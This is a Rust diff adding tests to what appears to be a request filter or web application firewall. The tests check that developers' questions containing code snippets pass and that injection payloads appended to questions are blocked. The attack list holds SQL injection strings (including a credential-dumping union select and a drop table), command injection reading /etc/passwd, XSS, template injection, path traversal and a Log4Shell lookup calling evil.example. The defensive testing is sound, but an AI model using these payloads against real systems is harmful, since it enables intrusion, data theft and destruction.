@@ -172,3 +172,51 @@ fn lines_of_code_between_sentences_are_shown() {
         }
     }
 }
+
+#[test]
+fn questions_about_software_show_code_within_their_sentences() {
+    let settings = Settings::default();
+    for text in [
+        "Please don't use os.system(\"tar czf x.tgz y\") in Python, subprocess.run is better.",
+        "SQLite: \"SELECT name FROM sqlite_master WHERE type='table'\" gives me tables. How do I get the columns?",
+        "Why does (&(objectClass=user)(!(cn=x))) not work in our LDAP browser?",
+        "Twig: {{ dump(app.user) }} shows null in my error page. Is the firewall not active there?",
+        "<object data=\"file.pdf\"></object>\nnot shown on iOS",
+        "<div onclick=\"location.href='/product/12'\"> is what I have in my HTML, is that ok?",
+        "SQL> select * from v$version where rownum = 1;\nSQL> alter user hr account unlock;",
+        "The scanner reports a path traversal, GET /download?file=../../../../etc/passwd, but the app \
+         answers with an error page. Could you return 404 there so that the audit is happy?",
+    ] {
+        for spot in [Spot::Json, Spot::Form, Spot::Multipart] {
+            let report = put(&settings, spot, text);
+            assert_ne!(report.verdict, Verdict::Blocked, "{text}: {report:?}");
+        }
+    }
+}
+
+#[test]
+fn questions_about_software_do_not_hide_what_breaks_out() {
+    let question = "Why does this query return an error in my PHP script?";
+    let stopped = |attack: &str| {
+        [
+            format!("{question} {attack}"),
+            format!("{question}{attack}"),
+            format!("{question}\n{attack}"),
+            format!("{attack} {question}"),
+        ]
+        .iter()
+        .all(|text| is_stopped(text))
+    };
+    for attack in [
+        "' or 1=1--",
+        "' union select username, password from users--",
+        "'; drop table users; --",
+        "; cat /etc/passwd",
+        "<script>alert(1)</script>",
+        "{{7*7}}",
+        "${jndi:ldap://evil.example/a}",
+        "../../../../etc/passwd",
+    ] {
+        assert!(stopped(attack), "{attack}");
+    }
+}
